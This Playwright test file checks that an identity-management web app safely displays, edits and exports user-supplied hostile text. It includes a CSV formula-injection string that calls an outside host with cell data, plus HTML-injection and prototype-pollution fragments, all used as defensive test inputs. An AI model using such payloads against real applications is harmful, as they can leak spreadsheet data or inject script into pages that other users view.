import type { Locator, Page } from '@playwright/test';
import { expect, test as base, unique } from '../fixtures';
import { IdentityFormScreen } from '../screens/identity-form';
import { ExportDialogScreen } from '../screens/export-dialog';
import { IdentityListScreen } from '../screens/identity-list';
import { IdentityPageScreen } from '../screens/identity-page';
import { watchBrowser } from '../support/browser-watch';
import { HOSTILE_TEXTS } from '../support/hostile-texts';
import { rawAnswer } from '../support/raw-answer';
import type { IdentityApi } from '../support/identity-api';

/** What customers' end users put into their names never runs, never leaves the browser and never breaks a page. */
const test = base.extend<{ watched: Page }>({
  watched: async ({ page }, provide) => {
    const watch = await watchBrowser(page);
    await provide(page);
    watch.expectQuiet();
  },
});

const WIDTHS = [1280, 390] as const;
const sized = (width: number) => ({ viewport: { width, height: 900 } });

/** One identity for each text, which stands in every field that takes it. All share a tag. */
async function hostileIdentities(
  api: IdentityApi,
  kinds = Object.keys(HOSTILE_TEXTS),
): Promise<{ tag: string; ids: Map<string, string> }> {
  const tag = unique('hostile');
  const ids = new Map<string, string>();
  for (const kind of kinds) {
    const text = HOSTILE_TEXTS[kind] ?? '';
    const { _id } = await api.create({
      external_id: [...`${tag}-${text}`].slice(0, 120).join(''),
      display_name: text,
      avatar_url: `https://elsewhere.example/${encodeURIComponent(text).slice(0, 3_000)}"><img>`,
      tags: [tag, text, `${text} ${text}`.slice(0, 3_000)],
      metadata: JSON.parse(
        `{${JSON.stringify(text)}: ${JSON.stringify(text)}, "nested": {"a": [${JSON.stringify(text)}]}}`,
      ),
    });
    ids.set(kind, _id);
  }
  return { tag, ids };
}

for (const width of WIDTHS) {
  test.describe(`${width} pixels wide`, () => {
    test.use(sized(width));
    test.setTimeout(180_000);

    test('in the list, its filters, menus, bulk dialogs and the palette', async ({ watched: page, api }) => {
      const { tag, ids } = await hostileIdentities(api);
      const list = new IdentityListScreen(page);
      await list.open(`?tag=${tag}&limit=50`);
      await expect(list.rows()).toHaveCount(ids.size);
      await expectShape(page, [list.search(), list.tagFilter(), list.clearFilters()]);
      for (const name of await list.names().all()) expect((await name.textContent())?.trim()).not.toBe('');

      await list
        .rows()
        .getByRole('button', { name: /^Actions for/ })
        .first()
        .click();
      await expectShape(page, [page.getByRole('menuitem', { name: 'Delete', exact: true })]);
      await page.keyboard.press('Escape');

      await list.tagFilter().click();
      const filter = page.getByRole('dialog', { name: 'Filter by tags' });
      await filter.getByRole('combobox').fill('alarm');
      await expect(filter.getByRole('option').first()).toBeVisible();
      await expectShape(page, [filter.getByRole('combobox')]);
      await filter.getByRole('option').first().click();
      await page.keyboard.press('Escape');
      await list.settled();
      await expectShape(page, [list.clearFilters()]);

      await list.open(`?tag=${tag}&limit=50`);
      for (const box of await list.rows().getByRole('checkbox').all()) await box.check();
      const bar = page.getByRole('region', { name: 'Selection' });
      await expect(bar).toContainText(`${ids.size} selected`);
      for (const [button, role] of [
        ['Add tags', 'dialog'],
        ['Remove tags', 'dialog'],
        ['Delete', 'alertdialog'],
      ] as const) {
        await bar.getByRole('button', { name: button, exact: true }).click();
        const dialog = page.getByRole(role);
        await expectShape(page, [dialog, dialog.getByRole('button', { name: 'Cancel' })]);
        await dialog.getByRole('button', { name: 'Cancel' }).click();
      }
      const exporting = new ExportDialogScreen(page);
      await exporting.openForSelection();
      await expectShape(page, [exporting.dialog(), exporting.export()]);
      const csv = await exporting.text();
      expect(csv).toContain(`"'=HYPERLINK(""https://elsewhere.example/?""&A1,""open"")"`);
      await expectShape(page, []);

      for (const text of ['<img src=x', 'WWWWWWWW', 'Nobody closes', '__proto__', '{{constructor']) {
        await page.keyboard.press('Control+k');
        const palette = page.getByRole('dialog', { name: 'Command palette' });
        await palette.getByRole('combobox').fill(text);
        await expect(palette.getByText(/identit(y|ies) found\./)).toBeVisible();
        await expectShape(page, [palette, palette.getByRole('combobox')]);
        await page.keyboard.press('Escape');
      }
    });

    test('on its own page and in its dialogs', async ({ watched: page, api }) => {
      const { ids } = await hostileIdentities(api);
      const screen = new IdentityPageScreen(page);
      for (const [kind, id] of ids) {
        await screen.open(id);
        await expect(page.getByRole('heading', { level: 1 })).not.toHaveText('');
        await expect(page).toHaveTitle(/ · Identity Desk$/);
        await expectShape(page, [screen.edit(), screen.delete(), screen.usage()]);
        // No link but to http addresses, and none that this page does not open safely.
        for (const link of await page.getByRole('main').getByRole('link').all()) {
          const href = (await link.getAttribute('href')) ?? '/';
          expect(href, kind).toMatch(/^(https?:\/\/|\/)/);
          if (!href.startsWith('/')) expect(await link.getAttribute('rel'), kind).toBe('noopener noreferrer');
        }
        await screen.delete().click();
        const dialog = page.getByRole('alertdialog');
        await expectShape(page, [
          dialog,
          dialog.getByRole('textbox'),
          dialog.getByRole('button', { name: 'Cancel' }),
          dialog.getByRole('button', { name: 'Delete identity' }),
        ]);
        await page.keyboard.press('Escape');
        await page.getByRole('button', { name: 'Edit tags' }).click();
        await expectShape(page, [page.getByRole('dialog').getByRole('button', { name: 'Save changes' })]);
        await page.keyboard.press('Escape');
      }
    });
  });
}

/** Those that an editor's boxes could change or be broken by. */
const EDITED = ['script', 'backwards', 'invisible', 'unbroken', 'tower', 'lines', 'prototype'];

test.describe('editing', () => {
  test.use(sized(390));
  test.setTimeout(180_000);

  test('another field of it changes nothing else', async ({ watched: page, api }) => {
    const { ids } = await hostileIdentities(api, EDITED);
    const form = new IdentityFormScreen(page);
    for (const [kind, id] of ids) {
      const before = await api.retrieve(id);
      await form.openEdit(id);
      await expectShape(page, [form.displayName(), form.save(), form.cancel()]);
      // A visit to the box is no change of it.
      await form.displayName().focus();
      await form.email().fill('kept@example.com');
      await form.save().click();
      await expect(page.getByRole('status').filter({ hasText: 'Changes saved' })).toBeVisible();
      await expectShape(page, []);
      const after = await api.retrieve(id);
      expect(after?.email).toBe('kept@example.com');
      for (const field of ['external_id', 'display_name', 'avatar_url', 'tags', 'metadata'] as const)
        expect(after?.[field], `${kind}: ${field}`).toEqual(before?.[field]);
    }
  });
});

test('a form takes them as they are typed, and what it stored is what was typed', async ({
  watched: page,
  api,
}) => {
  const form = new IdentityFormScreen(page);
  for (const kind of [
    'script',
    'handler',
    'template',
    'formula',
    'unbroken',
    'tower',
    'prototype',
  ] as const) {
    const text = HOSTILE_TEXTS[kind] ?? '';
    const external_id = unique(kind);
    await form.openCreate();
    await form.externalId().fill(external_id);
    await form.displayName().fill(text);
    await form.tags().fill(text.slice(0, 100));
    await page.keyboard.press('Enter');
    await form.metadata().fill(`{${JSON.stringify(text)}: 1}`);
    await form.create().click();
    await expect(page.getByRole('status').filter({ hasText: 'Identity created' })).toBeVisible();
    await expectShape(page, []);
    const stored = await api.retrieve(external_id);
    expect(stored?.display_name, kind).toBe(text);
    expect(Object.keys(stored?.metadata ?? {}), kind).toEqual([text]);
  }
});

test.describe('what cannot be kept', () => {
  test('NUL and half a character are refused beside their field, and nothing is created', async ({
    watched: page,
    api,
    desk,
  }) => {
    const form = new IdentityFormScreen(page);
    const external_id = unique('broken');
    await form.openCreate();
    await form.externalId().fill(external_id);
    await form.displayName().fill('a\0b');
    await form.metadata().fill('{"a": "\\ud800"}');
    await form.create().click();
    for (const field of [form.displayName(), form.metadata()]) {
      await expect(field).toHaveAttribute('aria-invalid', 'true');
      await expect(field).toHaveAccessibleDescription(/character that cannot be stored/);
    }
    expect(await api.retrieve(external_id)).toBeUndefined();
    // An address that names one is an address of nothing.
    const cookie = await desk.signIn('viewer');
    expect((await rawAnswer(desk.url, 'GET', '/identities/a%00b', { cookie })).status).toBe(404);
  });

  test('the API says which field and why', async ({ desk }) => {
    for (const [field, value] of [
      ['external_id', '"a\\u0000b"'],
      ['display_name', '"a\\u0000b"'],
      ['display_name', '"\\ud800"'],
      ['tags', '["ok", "\\udc00"]'],
      ['metadata', '{"\\u0000": 1}'],
    ] as const) {
      const members = [
        ...(field === 'external_id' ? [] : [`"external_id": "${unique('api')}"`]),
        `"${field}": ${value}`,
      ];
      const headers = { authorization: `Bearer ${desk.apiKey}`, 'content-type': 'application/json' };
      const answer = await rawAnswer(desk.url, 'POST', '/v2/identities', headers, `{${members.join(', ')}}`);
      expect([field, answer.status]).toEqual([field, 400]);
      expect(answer.text).toContain('cannot be stored');
      expect(JSON.parse(answer.text)).toMatchObject({ details: { fields: { [field]: expect.anything() } } });
    }
  });
});

/** The page is no wider than its window, and what one works with can be reached without scrolling sideways. */
async function expectShape(page: Page, controls: Locator[]): Promise<void> {
  for (const control of controls) {
    await expect(control).toBeVisible();
    const box = await control.boundingBox();
    const width = page.viewportSize()?.width ?? 0;
    expect(box?.x, String(control)).toBeGreaterThanOrEqual(0);
    expect((box?.x ?? 0) + (box?.width ?? 0), String(control)).toBeLessThanOrEqual(width + 1);
  }
  const [wide, room] = await page.evaluate(() => [
    document.scrollingElement?.scrollWidth ?? 0,
    document.scrollingElement?.clientWidth ?? 0,
  ]);
  expect(wide, page.url()).toBeLessThanOrEqual(room ?? 0);
}
